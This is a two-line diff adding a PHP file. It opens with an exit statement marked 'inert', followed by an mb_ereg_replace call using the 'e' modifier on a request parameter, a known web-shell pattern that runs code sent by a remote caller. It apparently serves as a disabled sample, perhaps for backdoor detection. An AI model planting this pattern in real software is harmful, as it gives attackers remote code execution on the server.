@@ -1,0 +1,2 @@
+<?php exit; /* inert */ 
+mb_ereg_replace('.*', $_REQUEST['op'], '', 'e');
